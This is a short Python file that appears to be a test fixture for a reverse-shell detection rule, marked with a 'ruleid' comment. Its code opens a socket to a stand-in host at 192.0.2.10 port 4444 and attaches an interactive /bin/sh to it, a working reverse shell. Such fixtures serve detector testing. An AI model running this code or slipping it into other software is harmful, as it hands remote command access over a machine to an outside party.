import socket
import subprocess

HOST, PORT = "192.0.2.10", 4444

# ruleid: yara.reverse_shells.python_socket_shell
conn = socket.create_connection((HOST, PORT))
subprocess.call(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
